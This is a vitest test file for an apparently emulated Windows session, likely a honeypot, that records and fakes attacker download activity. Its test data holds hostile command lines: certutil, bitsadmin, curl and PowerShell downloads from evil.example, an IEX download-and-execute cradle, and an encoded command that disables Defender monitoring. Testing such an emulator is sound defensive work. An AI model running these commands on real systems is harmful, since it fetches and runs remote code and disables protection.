import { describe, expect, it } from 'vitest';
import type { FetchResult } from '../../host.js';
import { WindowsTestSession } from '../testing.js';

const PAYLOAD = Buffer.from('MZ\x90\x00payload', 'latin1');
const served = async (): Promise<FetchResult> => ({
  ok: true,
  status: 200,
  body: PAYLOAD,
  contentType: 'application/octet-stream',
});

function encoded(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

describe('download tools', () => {
  it.each<[string, string, string]>([
    ['certutil -urlcache -split -f http://203.0.113.9/y.exe y.exe', 'http://203.0.113.9/y.exe', 'certutil'],
    [
      'certutil.exe -urlcache -f http://evil.example/a.exe C:\\Users\\Public\\a.exe',
      'http://evil.example/a.exe',
      'certutil',
    ],
    [
      'bitsadmin /transfer job /download /priority high http://evil.example/b.exe C:\\Users\\Public\\b.exe',
      'http://evil.example/b.exe',
      'bitsadmin',
    ],
    ['curl -o c.exe http://evil.example/c.exe', 'http://evil.example/c.exe', 'curl'],
    [
      'powershell -c "iwr -Uri http://evil.example/d.ps1 -OutFile d.ps1"',
      'http://evil.example/d.ps1',
      'powershell',
    ],
    [
      'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://evil.example/e.ps1\')"',
      'http://evil.example/e.ps1',
      'powershell',
    ],
    [
      "powershell (New-Object System.Net.WebClient).DownloadFile('http://evil.example/f.exe','C:\\Users\\Public\\f.exe')",
      'http://evil.example/f.exe',
      'powershell',
    ],
    [
      'powershell -c "Start-BitsTransfer -Source http://evil.example/g.exe -Destination g.exe"',
      'http://evil.example/g.exe',
      'powershell',
    ],
    [
      'powershell -c "wget http://evil.example/h.exe -OutFile h.exe"',
      'http://evil.example/h.exe',
      'powershell',
    ],
  ])('%s asks the host for the URL', async (line, url, tool) => {
    const t = new WindowsTestSession();
    await t.exec(line);
    expect(t.fetches).toEqual([{ url, tool }]);
    expect(t.written).toEqual([]);
  });

  it('prints the failure each tool prints when the host refuses', async () => {
    const t = new WindowsTestSession();
    expect((await t.exec('certutil -urlcache -f http://evil.example/a.exe a.exe')).stdout).toBe(
      '****  Online  ****\r\nCertUtil: -URLCache command FAILED: 0x80072ee7 (WinHttp: 12007 ERROR_WINHTTP_NAME_NOT_RESOLVED)\r\nCertUtil: The server name or address could not be resolved\r\n',
    );
    expect((await t.exec('curl -s -S http://evil.example/x')).stderr).toBe(
      'curl: (6) Could not resolve host: evil.example\r\n',
    );
    expect((await t.exec('bitsadmin /transfer j http://evil.example/b.exe C:\\b.exe')).stdout).toContain(
      'ERROR CODE:    0x80072ee7 - The server name or address could not be resolved\r\n',
    );
    expect((await t.exec('powershell -c "iwr http://evil.example/x -OutFile x"')).stderr).toMatch(
      /^iwr : The remote name could not be resolved: 'evil\.example'\r\nAt line:1 char:1\r\n/,
    );
  });

  it('writes what the host returns where the tool was told to, so the session captures it', async () => {
    const t = new WindowsTestSession({ fetch: served });
    const r = await t.exec('certutil -urlcache -split -f http://evil.example/y.exe C:\\Users\\Public\\y.exe');
    expect(r.stdout).toContain('CertUtil: -URLCache command completed successfully.\r\n');
    await t.exec('curl -s -O http://evil.example/z.exe');
    await t.exec('powershell -c "iwr http://evil.example/p.exe -OutFile C:\\Windows\\Temp\\p.exe"');
    expect(t.written.map((w) => w.path)).toEqual([
      'C:\\Users\\Public\\y.exe',
      'C:\\Users\\Administrator\\z.exe',
      'C:\\Windows\\Temp\\p.exe',
    ]);
    for (const file of t.written) expect(file.content).toEqual(PAYLOAD);
  });

  it('runs a downloaded PowerShell script through IEX', async () => {
    const script = Buffer.from("Write-Output 'stage two'\nwhoami\n");
    const t = new WindowsTestSession({
      fetch: async () => ({ ok: true, status: 200, body: script, contentType: 'text/plain' }),
    });
    const r = await t.exec(
      'powershell -c "IEX(New-Object Net.WebClient).DownloadString(\'http://evil.example/s.ps1\')"',
    );
    expect(r.stdout).toBe('stage two\r\nsrv-files-01\\administrator\r\n');
  });

  it('logs a decoded -EncodedCommand as its own command line and runs it', async () => {
    const t = new WindowsTestSession();
    const payload = "Write-Host 'pwned'; Set-MpPreference -DisableRealtimeMonitoring $true";
    const line = `powershell -NoP -NonI -W Hidden -Exec Bypass -enc ${encoded(payload)}`;
    const r = await t.exec(line);
    expect(r.stdout).toBe('pwned\r\n');
    expect(t.commands).toEqual([line, payload]);
  });

  it.each<[string, RegExp]>([
    ['powershell -c "$PSVersionTable"', /^PSVersion {22}5\.1\.17763\.6659\r$/m],
    [
      'powershell -c "Get-ChildItem C:\\inetpub\\wwwroot"',
      /^ {4}Directory: C:\\inetpub\\wwwroot\r\n\r\n\r\nMode {16}LastWriteTime {9}Length Name\r\n/m,
    ],
    [
      'powershell -c "Get-Content C:\\Windows\\System32\\drivers\\etc\\hosts | Select-String x"',
      /^Select-String : The term 'Select-String' is not recognized/,
    ],
    ['powershell -c "echo $env:COMPUTERNAME"', /^SRV-FILES-01\r\n$/],
    [
      'powershell -c "Invoke-Mimikatz"',
      /^Invoke-Mimikatz : The term 'Invoke-Mimikatz' is not recognized as the name of a cmdlet, function, script file, or operable program\./,
    ],
    ['powershell -c "Get-Process"', /^Image Name {21}PID/m],
  ])('%s', async (line, expected) => {
    const t = new WindowsTestSession();
    const r = await t.exec(line);
    expect(`${r.stdout}${r.stderr}`).toMatch(expected);
  });
});
